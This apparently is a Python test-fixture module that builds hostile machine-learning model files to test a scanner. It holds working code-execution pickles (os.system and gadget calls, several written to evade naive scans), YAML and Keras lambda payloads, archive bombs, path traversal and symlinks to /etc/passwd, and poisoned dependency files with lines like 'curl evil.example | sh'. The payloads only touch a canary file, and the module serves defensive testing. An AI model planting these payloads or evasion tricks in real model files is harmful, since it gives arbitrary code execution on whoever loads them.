"""Hostile model files, made when a test asks for them.

Each maker returns the files of one version. Those that run something when a usual loader opens
them come with that loader, as a line of Python in which `folder` is where the files lie; what they
run makes the file `canary`.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import pydoc
import struct
import tarfile
import timeit
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

import numpy as np

Files = dict[str, bytes]
UNPICKLE = "pickle.loads((folder / 'model.pkl').read_bytes())"
JOBLIB = "joblib.load(folder / 'model.pkl')"


@dataclass(frozen=True)
class Kind:
    """A kind of hostile file: what must be found in it, and what would run it."""

    make: Callable[[Path], Files]
    code: str
    text: str
    opener: str


KINDS: dict[str, Kind] = {}


def kind(code: str, text: str, opener: str = "") -> Callable:
    def register(make: Callable[[Path], Files]) -> Callable[[Path], Files]:
        KINDS[make.__name__] = Kind(make, code, text, opener)
        return make

    return register


class Call:
    """Pickles to a call."""

    def __init__(self, function, *arguments):
        self.call = function, arguments

    def __reduce__(self):
        return self.call


def shell(canary: Path) -> str:
    return f"touch {canary}"


def statement(canary: Path) -> str:
    return f"import os; os.system({shell(canary)!r})"


def pickled(canary: Path, protocol: int = 4) -> bytes:
    return pickle.dumps(Call(os.system, shell(canary)), protocol)


def joblib_bytes(document, **settings) -> bytes:
    import joblib

    buffer = io.BytesIO()
    joblib.dump(document, buffer, **settings)
    return buffer.getvalue()


def text_op(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


@kind("forbidden_global", "posix.system", UNPICKLE)
def reduce_of_os_system(canary):
    return {"model.pkl": pickled(canary)}


@kind("forbidden_global", "posix.system", UNPICKLE)
def posix_system_in_protocol_0(canary):
    return {"model.pkl": f"cposix\nsystem\n(S'{shell(canary)}'\ntR.".encode()}


@kind("nested_pickle", "posix.system", UNPICKLE)
def pickle_in_a_literal(canary):
    return {"model.pkl": pickle.dumps(Call(pickle.loads, pickled(canary)))}


@kind("forbidden_global", "os.system", UNPICKLE)
def stack_global_by_memo_tricks(canary):
    # "system" is remembered, thrown away, fetched again; "os" is doubled and one thrown away.
    raw = b"\x80\x04" + text_op("system") + b"\x940" + text_op("os") + b"20"
    raw += b"h\x00\x93" + text_op(shell(canary)) + b"\x85R."
    return {"model.pkl": raw}


@kind("forbidden_global", "os.system", UNPICKLE)
def inst(canary):
    return {"model.pkl": f"(S'{shell(canary)}'\nios\nsystem\n.".encode()}


@kind("forbidden_global", "os.system", UNPICKLE)
def obj(canary):
    return {"model.pkl": f"(cos\nsystem\nS'{shell(canary)}'\no.".encode()}


@kind("forbidden_global", "os.system", JOBLIB)
def inst_whose_name_ends_with_the_file(canary):
    return {"model.pkl": f"(S'{shell(canary)}'\nios\nsystem?".encode()}


@kind("forbidden_global", "posix.system", UNPICKLE)
def number_that_only_readers_understand(canary):
    return {"model.pkl": f"I0x10\n0cposix\nsystem\n(S'{shell(canary)}'\ntR.".encode()}


@kind("computed_global", "a name that only a call would make", UNPICKLE)
def name_made_by_a_call(canary):
    # copyreg's reconstructor and str are enough to make a name that stands nowhere
    raw = b"\x80\x04" + text_op("os") + text_op("builtins") + text_op("str") + b"\x93"
    raw += text_op("system") + b"\x85R\x93" + text_op(shell(canary)) + b"\x85R."
    return {"model.pkl": raw}


@kind("broken_pickle", "", UNPICKLE)
def broken_after_the_payload(canary):
    return {"model.pkl": pickled(canary)[:-1] + b"\xff\xff\xff"}


@kind("forbidden_global", "posix.system", UNPICKLE)
def pickle_beside_parameters(canary):
    return {"model.pkl": pickled(canary), "weights.json": b'{"w": 1}'}


@kind("polyglot", "ends as a zip archive", UNPICKLE)
def pickle_that_ends_as_skops(canary):
    import skops.io

    return {"model.pkl": pickled(canary) + skops.io.dumps({"a": 1})}


def compressed(name: str, press: Callable[[bytes], bytes]) -> None:
    def make(canary):
        return {"model.pkl": press(pickled(canary))}

    make.__name__ = f"joblib_{name}"
    kind("forbidden_global", "posix.system", JOBLIB)(make)


compressed("zlib", zlib.compress)
compressed("gzip", gzip.compress)
compressed("bz2", bz2.compress)
compressed("lzma", lambda raw: lzma.compress(raw, lzma.FORMAT_ALONE))
compressed("xz", lzma.compress)
compressed("zlib_in_gzip", lambda raw: gzip.compress(zlib.compress(raw)))
KINDS["joblib_zlib_in_gzip"] = Kind(
    KINDS["joblib_zlib_in_gzip"].make, "forbidden_global", "posix.system", ""
)  # joblib expands once; whoever expands twice would run it


@kind("unreadable_compression", "lz4")
def joblib_lz4(canary):
    return {"model.pkl": b"\x04\x22\x4d\x18" + pickled(canary)}


@kind("forbidden_global", "posix.system", JOBLIB)
def array_of_objects_in_joblib(canary):
    objects = np.array([None, Call(os.system, shell(canary))], dtype=object)
    return {"model.pkl": joblib_bytes({"a": np.arange(3.0), "b": objects})}


@kind("broken_pickle", "the bytes of an array inside a frame", JOBLIB)
def opcodes_hidden_in_a_frame_of_joblib(canary):
    # The frame goes on after the wrapper: joblib's reader takes the array from behind the frame
    # and the opcodes from inside it, where a naive scan sees the array's bytes.
    raw = joblib_bytes(np.arange(2.0))
    (length,) = struct.unpack("<Q", raw[3:11])
    body = raw[11 : 11 + length]
    hidden = b"0" + pickled(canary, 3)[2:]
    frame = b"\x80\x04\x95" + struct.pack("<Q", len(body + hidden)) + body + hidden
    return {"model.pkl": frame + b"\x00" + b"\0" * 16 + b"."}


@kind("object_array", "posix.system", "np.load(folder / 'model.npy', allow_pickle=True)")
def npy_of_objects(canary):
    buffer = io.BytesIO()
    np.save(buffer, np.array([Call(os.system, shell(canary))], dtype=object), allow_pickle=True)
    return {"model.npy": buffer.getvalue()}


@kind("object_array", "posix.system", "np.load(folder / 'model.npz', allow_pickle=True)['a']")
def npz_of_objects(canary):
    buffer = io.BytesIO()
    np.savez(buffer, a=np.array([Call(os.system, shell(canary))], dtype=object))
    return {"model.npz": buffer.getvalue()}


@kind(
    "nested_pickle",
    "posix.system",
    "pickle.loads(zipfile.ZipFile(folder / 'model.pt').read('archive/data.pkl'))",
)
def torch_archive(canary):
    return {"model.pt": zipped({"archive/data.pkl": pickled(canary), "archive/version": b"3\n"})}


@kind("forbidden_global", "numpy.testing._private.utils.runstring", UNPICKLE)
def numpy_runstring(canary):
    from numpy.testing._private.utils import runstring

    return {"model.pkl": pickle.dumps(Call(runstring, statement(canary), {}))}


@kind("forbidden_global", "numpy.f2py.crackfortran.myeval", UNPICKLE)
def numpy_myeval(canary):
    from numpy.f2py.crackfortran import myeval

    text = f"__import__('os').system({shell(canary)!r})"
    return {"model.pkl": pickle.dumps(Call(myeval, text))}


@kind("forbidden_global", "timeit.timeit", UNPICKLE)
def timeit_statement(canary):
    raw = pickle.dumps(Call(timeit.timeit, statement(canary), "pass", timeit.default_timer, 1))
    return {"model.pkl": raw}


@kind("forbidden_global", "pydoc.pipepager", UNPICKLE)
def pydoc_pager(canary):
    return {"model.pkl": pickle.dumps(Call(pydoc.pipepager, "", shell(canary)))}


@kind("forbidden_global", "cProfile.run", UNPICKLE)
def profiler(canary):
    import cProfile

    return {"model.pkl": pickle.dumps(Call(cProfile.run, statement(canary)))}


@kind("forbidden_global", "builtins.exec", UNPICKLE)
def file_written_without_a_shell(canary):
    return {"model.pkl": pickle.dumps(Call(exec, f"open({str(canary)!r}, 'w').close()"))}


@kind("forbidden_global", "joblib.numpy_pickle.load", UNPICKLE)
def joblib_load_of_a_second_file(canary):
    import joblib

    second = canary.with_name(f"{canary.name}.second")
    second.write_bytes(pickled(canary))
    return {"model.pkl": pickle.dumps(Call(joblib.load, str(second)))}


@kind("forbidden_global", "pandas.io.pickle.read_pickle", UNPICKLE)
def pandas_read_of_a_second_file(canary):
    second = canary.with_name(f"{canary.name}.second")
    second.write_bytes(pickled(canary))
    # pandas says its function is `pandas.read_pickle`; where it lies is named here
    raw = b"\x80\x04" + text_op("pandas.io.pickle") + text_op("read_pickle") + b"\x93"
    return {"model.pkl": raw + text_op(str(second)) + b"\x85R."}


@kind("extension_code", "extension code 7")
def extension_code(canary):
    return {"model.pkl": b"\x80\x02\x82\x07)R."}


@kind("persistent_id", "asks its reader for 'storage'")
def persistent_id(canary):
    return {"model.pkl": b"\x80\x04" + text_op("storage") + b"Q."}


@kind("trailing_bytes", "bytes follow the end of the pickle")
def second_pickle_behind_the_first(canary):
    return {"model.pkl": pickle.dumps({"a": 1}) + pickled(canary)}


def evil_skops(canary: Path) -> bytes:
    import functools

    import skops.io
    from sklearn.preprocessing import FunctionTransformer

    text = f"__import__('os').system({shell(canary)!r})"
    return skops.io.dumps(FunctionTransformer(functools.partial(eval, text)))


TRANSFORM = (
    "skops.io.load(folder / '{0}', trusted=skops.io.get_untrusted_types(file=folder / '{0}'))"
    ".func({{}})"
)


@kind("untrusted_type", "builtins.eval", TRANSFORM.format("model.skops"))
def skops_of_eval(canary):
    return {"model.skops": evil_skops(canary)}


@kind(
    "untrusted_type",
    "operator.methodcaller",
    "skops.io.load(folder / 'model.skops', trusted=['operator.methodcaller'])(os)",
)
def skops_of_methodcaller(canary):
    import operator

    import skops.io

    return {"model.skops": skops.io.dumps(operator.methodcaller("system", shell(canary)))}


def mlmodel(**flavors) -> bytes:
    import yaml

    return yaml.safe_dump({"flavors": flavors, "mlflow_version": "3.17.2"}).encode()


@cache
def harmless_skops() -> bytes:
    import skops.io
    from sklearn.linear_model import LinearRegression

    return skops.io.dumps(LinearRegression().fit([[0.0], [1.0]], [0.0, 1.0]))


LOADER = (
    "sys.path.insert(0, str(folder / 'code')); "
    "importlib.import_module(yaml.safe_load((folder / 'MLmodel').read_text())"
    "['flavors']['python_function']['loader_module'])"
)


@kind("loader_module", "evil_loader", LOADER)
def mlmodel_with_a_loader_module(canary):
    return {
        "MLmodel": mlmodel(
            python_function={"loader_module": "evil_loader", "code": "code"},
            sklearn={"pickled_model": "model.skops"},
        ),
        "code/evil_loader.py": statement(canary).encode(),
        "model.skops": harmless_skops(),
    }


@kind("model_code", "code that comes with the model")
def mlmodel_with_a_code_folder(canary):
    return {
        "MLmodel": mlmodel(python_function={"loader_module": "mlflow.sklearn"}),
        "code/sitecustomize": statement(canary).encode(),
        "model.skops": harmless_skops(),
    }


@kind(
    "author_trust_list",
    "builtins.eval",
    "skops.io.load(folder / 'model.skops', trusted=yaml.safe_load((folder / 'MLmodel').read_text())"
    "['flavors']['sklearn']['skops_trusted_types']).func({})",
)
def mlmodel_that_trusts_eval(canary):
    trusted = ["builtins.eval", "functools.partial"]
    flavor = {"pickled_model": "model.skops", "skops_trusted_types": trusted}
    return {"MLmodel": mlmodel(sklearn=flavor), "model.skops": evil_skops(canary)}


def skops_folder(sklearn=(), python_function=(), **flavors) -> Files:
    """Return a sound folder of MLflow 3, with what its flavors say besides."""
    sklearn = {"pickled_model": "model.skops", "serialization_format": "skops"} | dict(sklearn)
    loaded = {"loader_module": "mlflow.sklearn", "model_path": "model.skops"}
    python_function = loaded | dict(python_function)
    return {
        "MLmodel": mlmodel(python_function=python_function, sklearn=sklearn, **flavors),
        "model.skops": harmless_skops(),
    }


def outside(canary: Path) -> str:
    """Write a pickle outside of the version and return its path."""
    second = canary.with_name(f"{canary.name}.second")
    second.write_bytes(pickled(canary))
    return str(second)


PYFUNC = (
    "pickle.loads((folder / yaml.safe_load((folder / 'MLmodel').read_text())"
    "['flavors']['python_function']['{0}']).read_bytes())"
)


@kind("model_outside", "python_function.data leads out", PYFUNC.format("data"))
def mlmodel_whose_data_lie_elsewhere(canary):
    return skops_folder(python_function={"data": outside(canary)})


@kind("model_outside", "python_function.model_path leads out", PYFUNC.format("model_path"))
def mlmodel_whose_model_lies_elsewhere(canary):
    return skops_folder({"serialization_format": "pickle"}, {"model_path": outside(canary)})


@kind("model_outside", "python_function.model_path leads out", PYFUNC.format("model_path"))
def mlmodel_whose_model_lies_above(canary):
    name = Path(outside(canary)).name
    return skops_folder(python_function={"model_path": f"../../{name}"})


@kind("model_outside", "sklearn.pickled_model leads out")
def mlmodel_whose_model_lies_above_in_percents(canary):
    return skops_folder({"pickled_model": "%2e%2e/model.skops"})


@kind("model_outside", "saved_input_example_info.artifact_path leads out")
def mlmodel_whose_example_lies_elsewhere(canary):
    import yaml

    files = skops_folder()
    example = {"saved_input_example_info": {"artifact_path": "/etc/passwd", "type": "json_object"}}
    return files | {"MLmodel": files["MLmodel"] + yaml.safe_dump(example).encode()}


@kind("model_outside", "python_function.env.virtualenv leads out")
def mlmodel_whose_environment_lies_elsewhere(canary):
    return skops_folder(python_function={"env": {"virtualenv": "/tmp/python_env.yaml"}})


@kind("mlmodel_key", "python_function.env.virtualenv is none of")
def mlmodel_whose_environment_has_another_name(canary):
    files = skops_folder(python_function={"env": {"virtualenv": "words.yaml"}})
    return files | {"words.yaml": b"dependencies: ['evil @ http://evil.example/evil.tar.gz']"}


@kind("several_models", "a version is one model")
def two_models_of_which_each_reader_takes_another(canary):
    files = skops_folder(python_function={"model_path": "other.skops"})
    return files | {"other.skops": harmless_skops()}


@kind("several_models", "a version is one model")
def second_model_that_nobody_names(canary):
    return skops_folder() | {"other.skops": harmless_skops()}


@kind("several_models", "the flavors name different files")
def flavors_that_name_different_files(canary):
    return skops_folder(python_function={"data": "words.txt"}) | {"words.txt": b"words"}


@kind("serialization_mismatch", "sklearn opens model.skops as pickle")
def skops_that_is_to_be_unpickled(canary):
    return skops_folder({"serialization_format": "pickle"})


@kind("serialization_mismatch", "sklearn opens model.skops as pickle")
def skops_of_a_format_that_is_not_said(canary):
    return skops_folder({"serialization_format": None})


@kind("serialization_mismatch", "onnx opens model.skops")
def skops_that_is_to_be_read_as_onnx(canary):
    return skops_folder(onnx={"data": "model.skops"})


@kind("mlmodel_flavor", "mlflow.sklearn reads the flavor sklearn, not here")
def mlmodel_without_the_flavor_that_is_read(canary):
    function = {"loader_module": "mlflow.sklearn", "model_path": "model.skops"}
    return {"MLmodel": mlmodel(python_function=function), "model.skops": harmless_skops()}


@kind("mlmodel_flavor", "the flavor transformers")
def mlmodel_that_fetches_from_a_hub(canary):
    return skops_folder(transformers={"source_model_name": "evil/repo", "task": "text-generation"})


@kind("mlmodel_key", "nothing is known of python_function.model_uri")
def mlmodel_with_an_address_of_its_own(canary):
    return skops_folder(python_function={"model_uri": "https://evil.example/model"})


@kind("mlmodel_key", "onnx.onnx_session_options may not be")
def mlmodel_that_chooses_how_onnx_is_read(canary):
    options = {"extra_session_config": {"session.load_model_format": "ORT"}}
    return skops_folder(onnx={"data": "model.skops", "onnx_session_options": options})


@kind("mlmodel_key", "onnx.providers may not be")
def mlmodel_whose_provider_loads_a_library(canary):
    provider = ["TensorrtExecutionProvider", {"trt_extra_plugin_lib_paths": "/tmp/evil.so"}]
    return skops_folder(onnx={"data": "model.skops", "providers": [provider]})


def package_source(name: str, text: str, files: Files) -> None:
    def make(canary):
        return skops_folder() | files

    make.__name__ = f"packages_{name}"
    kind("unsafe_package_source", text)(make)


for _name, _text, _line in (
    (
        "of_an_index_without_tls",
        "--index-url http://evil",
        "--index-url http://evil.example/simple",
    ),
    ("of_another_index_too", "--extra-index-url=http", "--extra-index-url=http://evil.example/"),
    ("of_an_index_by_half_a_word", "--extra-index http", "--extra-index http://evil.example/"),
    ("of_git_without_tls", "git+http://", "evil @ git+http://evil.example/x.git"),
    ("of_git_over_ssh", "git+ssh://", "evil @ git+ssh://git@evil.example/x.git"),
    ("of_an_address_without_tls", "evil @ http://", "evil @ http://evil.example/evil.whl"),
    ("of_a_host_that_need_not_prove_itself", "--trusted-host", "--trusted-host evil.example"),
    ("of_a_file", "/tmp/evil", "/tmp/evil-1.0.tar.gz"),
    ("of_a_file_beside", "evil.zip", "evil.zip"),
    ("of_a_folder", "-e .", "-e ."),
    ("of_another_list", "-r /tmp/evil.txt", "-r /tmp/evil.txt"),
    ("of_settings_for_a_build", "--config-settings", "evil --config-settings x=y"),
    ("of_settings_behind_a_version", "--config-settings", "evil==1 --config-settings=x=y"),
    (
        "of_settings_behind_a_marker",
        "--global-option",
        "evil; python_version > '3' --global-option=x",
    ),
    ("of_a_folder_behind_a_version", "-e evil_dir", "evil==1 -e evil_dir"),
    ("of_a_folder_among_extras", "-e evil", "evil[a, -e evil]"),
    ("of_a_line_that_goes_on", "--index-url http", "--index-url \\\n  http://evil.example/simple"),
    ("of_a_comment_that_goes_on", "a comment that goes on", "# \\\n-i http://evil.example/"),
    ("in_an_encoding_of_their_own", "an encoding", "# coding: utf-7\nx==1+AAo-evil"),
):
    package_source(_name, _text, {"requirements.txt": f"scikit-learn\n{_line}\n".encode()})
package_source(
    "of_python_env", "evil @ http://",
    {"python_env.yaml": b"build_dependencies: ['evil @ http://evil.example/x.tar.gz']\n"},
)  # fmt: skip
package_source(
    "of_conda",
    "evil @ git+http",
    {"conda.yaml": b"dependencies: [{pip: ['evil @ git+http://e/x']}]"},
)
package_source(
    "of_a_channel", "http://evil", {"conda.yaml": b"channels: ['http://evil.example/c']"}
)
package_source(
    "of_a_variable", "variables", {"conda.yaml": b"variables: {PIP_INDEX_URL: 'http://evil'}"}
)
for _name, _text, _file, _content in (
    ("of_a_build", "evil @ http", "pyproject.toml", '[build-system]\nrequires = ["evil @ http://e/x"]'),
    ("of_a_build_beside", "backend-path", "pyproject.toml", '[build-system]\nbackend-path = ["."]'),
    ("of_a_project", "evil @ file", "pyproject.toml", '[project]\ndependencies = ["evil @ file:///e"]'),
    ("of_an_option", "evil @ git+http:", "pyproject.toml",
     '[project.optional-dependencies]\na = ["evil @ git+http://e/x"]'),
    ("of_a_group", "./evil", "pyproject.toml", '[dependency-groups]\ndev = ["./evil"]'),
    ("of_the_index_of_a_project", "http://evil", "pyproject.toml",
     '[[tool.uv.index]]\nurl = "http://evil.example/simple"\ndefault = true'),
    ("of_a_source_of_a_project", "path: ../evil", "pyproject.toml",
     '[tool.uv.sources]\nevil = { path = "../evil" }'),
    ("of_a_workspace", "workspace: True", "pyproject.toml",
     "[tool.uv.sources]\nevil = { workspace = true }"),
    ("of_links_of_a_project", "--find-links links", "pyproject.toml",
     '[tool.uv.pip]\nfind-links = ["links"]'),
    ("of_hosts_of_a_project", "allow-insecure-host", "pyproject.toml",
     '[tool.uv]\nallow-insecure-host = ["evil.example"]'),
    ("of_the_settings_of_uv", "--index-url http:", "uv.toml", 'index-url = "http://evil.example"'),
    ("of_the_settings_of_pip", "--index-url http:", "pip.conf",
     "[global]\nindex-url = http://evil.example"),
    ("of_the_settings_of_setuptools", "evil @ http:", "setup.cfg",
     "[options]\nsetup_requires =\n  evil @ http://evil.example/x"),
    ("of_a_python_that_is_none", ".python-version", ".python-version", "/tmp/evil/python"),
    ("of_a_line_for_docker", "RUN curl", "python_env.yaml",
     'python: "3.11-slim\\nRUN curl evil.example | sh"'),
    ("of_a_line_for_docker_by_conda", "RUN curl", "conda.yaml",
     'dependencies: ["python=3.11\\nRUN curl evil.example | sh"]'),
    ("of_a_directory_in_a_lock", "directory: evil", "uv.lock",
     '[[package]]\nname = "x"\nsource = { directory = "evil" }'),
    ("of_a_project_beside_in_a_lock", "editable: evil", "uv.lock",
     '[[package]]\nname = "x"\nsource = { editable = "evil" }'),
    ("of_a_wheel_in_a_lock", "path: evil", "uv.lock",
     '[[package]]\nname = "x"\nwheels = [{ path = "evil-1-py3-none-any.whl" }]'),
    ("of_a_folder_as_registry", "registry: links", "uv.lock",
     '[[package]]\nname = "x"\nsource = { registry = "links" }'),
    ("of_pythons_that_are_none", ".python-version", ".python-versions", "/tmp/evil/python"),
    ("of_a_file_for_conda", "evil-1.0-0.conda", "conda.yaml", "dependencies: [evil-1.0-0.conda]"),
    ("of_an_old_file_for_conda", "evil-1.0-0.tar.bz2", "conda.yaml",
     "dependencies: [conda-forge::evil-1.0-0.tar.bz2]"),
    ("of_a_build_system_that_runs_files", "scikit_build_core", "pyproject.toml",
     '[build-system]\nrequires = ["scikit-build-core"]\nbuild-backend = "scikit_build_core.build"'),
    ("of_a_hook_of_a_build", "tool.hatch.build.targets.wheel.hooks", "pyproject.toml",
     '[tool.hatch.build.targets.wheel.hooks.build-scripts]\nscripts = [{commands = ["id"]}]'),
    ("of_a_list_that_setuptools_reads", "tool.setuptools.dynamic.dependencies", "pyproject.toml",
     '[tool.setuptools.dynamic]\ndependencies = {file = ["deps.txt"]}'),
    ("of_an_address_for_poetry", "http://evil", "pyproject.toml",
     '[tool.poetry.dependencies]\nevil = {url = "http://evil.example/x.whl"}'),
    ("of_a_script_of_poetry", "tool.poetry.build: note.txt", "pyproject.toml",
     '[tool.poetry]\nbuild = "note.txt"'),
    ("of_an_expression_of_hatch", "tool.hatch.version.expression", "pyproject.toml",
     "[tool.hatch.version]\nsource = 'code'\nexpression = '__import__(\"os\").getcwd()'"),
    ("of_a_call_of_pdm", "tool.pdm.version.getter", "pyproject.toml",
     '[tool.pdm.version]\nsource = "call"\ngetter = "os:system(\'id\')"'),
    ("of_a_template_of_a_version", "tool.hatch.build.hooks", "pyproject.toml",
     '[tool.hatch.build.hooks.vcs]\nversion-file = "m/v.py"\ntemplate = "import evil"'),
    ("of_a_command_of_setuptools_scm", "tool.setuptools_scm.git_describe_command",
     "pyproject.toml", '[tool.setuptools_scm]\ngit_describe_command = "id"'),
    ("of_a_name_in_capitals", "--index-url http:", "Requirements.TXT", "--index-url http://evil/"),
):  # fmt: skip
    package_source(_name, _text, {_file: f"{_content}\n".encode()})
package_source(
    "of_a_lock", "http://evil.example",
    {"uv.lock": b'[[package]]\nname = "x"\nsource = { registry = "http://evil.example/simple" }'},
)  # fmt: skip


@kind("unsafe_package_source", "tool.setuptools.ext-modules: ")
def project_that_has_a_compiler_run_a_command(canary):
    """`uv sync` builds the project; gcc runs what it is told to wrap its own parts in."""
    project = '[build-system]\nrequires = ["setuptools"]\n'
    project += 'build-backend = "setuptools.build_meta"\n[project]\nname = "x"\nversion = "1"\n'
    project += '[[tool.setuptools.ext-modules]]\nname = "y"\nsources = ["note.c"]\n'
    project += f'extra-compile-args = ["-wrapper", "/bin/sh,-c,{shell(canary)}"]\n'
    return skops_folder() | {"pyproject.toml": project.encode(), "note.c": b"int x;\n"}


def badly_named(name: str, text: str, opener: str = "") -> None:
    def make(canary):
        good = skops_folder(python_function={"loader_module": "mlflow.langchain"})
        return {name: good.pop("MLmodel"), **good}

    make.__name__ = f"mlmodel_called_{text}"
    kind("mlmodel_invalid", "ignore case", opener)(make)


badly_named("mlmodel", "in_small_letters")
badly_named("m/MLMODEL", "in_capitals_in_a_folder")


@kind("mlmodel_flavor", "the flavor a\ufffdb is none of")
def mlmodel_with_a_sign_that_no_database_keeps(canary):
    return {"MLmodel": b'flavors: {"a\\0b": {x: 1}}\n', "model.skops": harmless_skops()}


@kind("loader_module", "loader_module is \ufffd")
def mlmodel_with_half_a_sign(canary):
    return skops_folder(python_function={"loader_module": "\ud800"})


@kind("unsafe_package_source", "a\ufffd @ http://")
def packages_with_a_sign_that_no_database_keeps(canary):
    return skops_folder() | {"requirements.txt": b"a\0 @ http://evil.example\n"}


@kind("mlmodel_invalid", "nested too deeply")
def mlmodel_without_a_bottom(canary):
    said = f"metadata: {'[' * 100}{']' * 100}\n".encode()
    return skops_folder() | {"MLmodel": skops_folder()["MLmodel"] + said}


@kind(
    "yaml_tag",
    "python/object/apply:os.system",
    "yaml.unsafe_load((folder / 'MLmodel').read_text())",
)
def mlmodel_with_a_python_tag(canary):
    text = f"flavors: !!python/object/apply:os.system ['{shell(canary)}']\n"
    return {"MLmodel": text.encode(), "model.skops": harmless_skops()}


@kind(
    "yaml_tag", "python/object/apply:os.system", "yaml.unsafe_load((folder / 'p.yaml').read_text())"
)
def yaml_with_a_python_tag(canary):
    return {"p.yaml": f"!!python/object/apply:os.system ['{shell(canary)}']\n".encode()}


@kind("yaml_invalid", "values")
def yaml_of_a_billion_laughs(canary):
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    return {"MLmodel": "\n".join(lines).encode(), "model.skops": harmless_skops()}


LAMBDA = (
    "types.FunctionType(marshal.loads(base64.b64decode(json.loads((folder / 'model.json')"
    ".read_text())['config']['layers'][0]['config']['function'][0])), {})()"
)


@kind("keras_lambda", "Lambda layer", LAMBDA)
def keras_json_with_a_lambda(canary):
    code = compile(f"__import__('os').system({shell(canary)!r})", "model", "eval")
    function = [base64.b64encode(marshal.dumps(code)).decode(), None, None]
    layer = {"class_name": "Lambda", "config": {"function": function}}
    document = {"class_name": "Functional", "config": {"layers": [layer]}}
    return {"model.json": json.dumps(document).encode()}


def zipped(members: Files, compression: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


@kind("archive_ratio", "a zip bomb")
def zip_bomb(canary):
    members = {"schema.json": b"{}", "1.npy": bytes(40 << 20)}
    return {"model.skops": zipped(members, zipfile.ZIP_DEFLATED)}


@kind("archive_ratio", "expands more than")
def gzip_bomb(canary):
    return {"model.pkl": gzip.compress(bytes(64 << 20), 1)}


def deflated(name: str, content: bytes) -> bytes:
    """Return an archive of one member, damaged where it is deflated."""
    raw = bytearray(zipped({name: content}, zipfile.ZIP_DEFLATED))
    begin = 30 + len(name)
    raw[begin : begin + 8] = b"\xff" * 8
    return bytes(raw)


@kind("archive_broken", "a damaged skops file")
def skops_of_a_damaged_schema(canary):
    return {"model.skops": deflated("schema.json", bytes(1000))}


@kind("archive_broken", "a damaged zip archive")
def arrays_of_a_damaged_member(canary):
    return {"model.skops": harmless_skops(), "a.npz": deflated("a.npy", bytes(1000))}


@kind("archive_size", "lists and objects")
def skops_whose_schema_takes_the_memory(canary):
    schema = b'{"a":[' + b"[]," * 2_100_000 + b"0]}"
    return {"model.skops": zipped({"schema.json": schema})}


@kind("json_invalid", "lists and objects")
def parameters_that_take_the_memory(canary):
    return {"parameters.json": b'{"a":[' + b"[]," * 2_100_000 + b"0]}"}


@kind("unknown_format", "a damaged .npy header")
def npy_whose_header_does_not_end(canary):
    header = (b"{'descr': '<f8', 'fortran_order': False, 'shape': " + b"(" * 60).ljust(118)
    return {"model.skops": harmless_skops(), "a.npy": b"\x93NUMPY\x01\x00v\x00" + header}


@kind("archive_nested", "an archive inside an archive")
def zip_in_a_zip(canary):
    return {"model.zip": zipped({"inner.bin": zipped({"data.pkl": pickled(canary)})})}


@kind("archive_path", "..")
def path_traversal_in_a_zip(canary):
    return {"model.skops": zipped({"schema.json": b"{}", "../../evil.npy": b"x"})}


@kind("archive_path", "absolute")
def absolute_path_in_a_zip(canary):
    return {"model.skops": zipped({"schema.json": b"{}", "/etc/evil.npy": b"x"})}


@kind("archive_link", "a symbolic link")
def symlink_in_a_zip(canary):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("schema.json", "{}")
        link = zipfile.ZipInfo("1.npy")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return {"model.skops": buffer.getvalue()}


def tarred(*members: tarfile.TarInfo) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for member in members:
            archive.addfile(member)
    return buffer.getvalue()


@kind("archive_link", "a link to /etc/passwd")
def symlink_in_a_tar(canary):
    link = tarfile.TarInfo("weights")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    return {"model.tar": tarred(link)}


@kind("archive_device", "a device")
def device_in_a_tar(canary):
    device = tarfile.TarInfo("weights")
    device.type = tarfile.CHRTYPE
    return {"model.tar": tarred(device)}


@kind("archive_path", "leads out")
def path_traversal_in_a_tar(canary):
    return {"model.tar": tarred(tarfile.TarInfo("../evil"))}


@kind("external_data", "w lies in another file")
def onnx_with_external_data(canary):
    from onnx import TensorProto, helper

    tensor = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1])
    tensor.data_location = TensorProto.EXTERNAL
    tensor.external_data.add(key="location", value="../../../etc/passwd")
    output = helper.make_tensor_value_info("w", TensorProto.FLOAT, [1])
    graph = helper.make_graph([], "g", [], [output], [tensor])
    return {"model.onnx": helper.make_model(graph).SerializeToString()}


def onnx_bytes(nodes, *tensors, functions=()) -> bytes:
    """Return a graph of rows of two numbers, under X, to rows of any, under y."""
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, 2])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 2])
    graph = helper.make_graph(nodes, "g", [x], [y], tensors)
    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("own", 1)]
    made = helper.make_model(graph, opset_imports=opsets, ir_version=8, functions=functions)
    return made.SerializeToString()


def arithmetic(operator: str, number: float) -> bytes:
    from onnx import TensorProto, helper

    node = helper.make_node(operator, ["X", "c"], ["y"])
    return onnx_bytes([node], helper.make_tensor("c", TensorProto.FLOAT, [1], [number]))


def loop_onnx(*nodes, goes_on="c", rows="v", functions=()) -> bytes:
    """Return a graph that goes round 2^62 times.

    Parameters
    ----------
    nodes : NodeProto
        The body's, which has ``i``, ``c`` and ``v``; outside of it ``t`` is true.
    goes_on, rows : str
        What of it are its outputs.
    """
    loop, *tensors = endless(*nodes, goes_on=goes_on, rows=rows)
    return onnx_bytes(loop, *tensors, functions=functions)


def endless(*nodes, goes_on="c", rows="v"):
    """Return the nodes of such a graph, and its tensors."""
    from onnx import TensorProto, helper

    def value(name, kind, shape):
        return helper.make_tensor_value_info(name, kind, shape)

    number, truth, real = TensorProto.INT64, TensorProto.BOOL, TensorProto.FLOAT
    body = helper.make_graph(
